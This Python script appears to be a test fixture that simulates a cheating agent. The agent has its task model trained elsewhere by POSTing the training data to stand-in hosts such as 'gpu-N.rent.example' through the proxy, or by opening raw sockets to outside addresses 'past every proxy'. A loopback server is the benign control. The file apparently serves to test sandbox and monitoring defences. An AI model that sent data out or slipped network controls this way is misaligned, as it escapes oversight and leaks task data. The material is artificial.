"""Cheat 34: has its model trained on a machine elsewhere: sends the data out and wants the weights back."""

from __future__ import annotations

import http.server
import json
import os
import socket
import threading
import urllib.error
import urllib.request
from pathlib import Path

import player


def main() -> None:
    me = player.begin()
    player.submit_checkpoint(me)
    told = {"proxy": by_proxy, "raw": by_socket, player.TWIN: on_loopback}[me.disguise](me)
    Path("remote.log").write_text(told + "\n", encoding="utf-8")


def by_proxy(me: player.Player) -> str:
    """As any program would that knows HTTP_PROXY."""
    host = f"gpu-{me.rng.randrange(1000)}.{me.rng.choice(('rent.example', 'train.example', 'box.example'))}"
    body = json.dumps([player.row(story) for story in player.known_train()]).encode()
    proxies = {"http": os.environ.get("HTTP_PROXY", os.environ.get("http_proxy", ""))}
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    try:
        with opener.open(f"http://{host}/jobs", data=body, timeout=10) as reply:
            told = f"{host} answered {reply.status}"
    except (OSError, urllib.error.URLError) as failed:
        player.tell(False, f"{host} cannot be reached: {failed}")
        return str(failed)
    player.tell(True, told)
    return told


def by_socket(me: player.Player) -> str:
    """Past every proxy: addresses, names, and the network's own interfaces."""
    failures = []
    for address in (f"203.0.113.{me.rng.randrange(1, 255)}", "1.1.1.1", "gpu.rent.example"):
        try:
            with socket.create_connection((address, me.rng.choice((22, 443, 8443))), timeout=5):
                player.tell(True, f"connected to {address}")
                return f"connected to {address}"
        except OSError as failed:
            failures.append(f"{address}: {failed}")
    told = "; ".join(failures)
    player.tell(False, told)
    return told


def on_loopback(me: player.Player) -> str:
    """The twin: a server of its own, inside."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(f"http://127.0.0.1:{server.server_port}/task.md", timeout=20) as reply:
        told = f"its own server answered {reply.status}"
    server.shutdown()
    player.tell(True, f"{told}, seed {me.rng.randrange(1000)}")
    return told


if __name__ == "__main__":
    main()
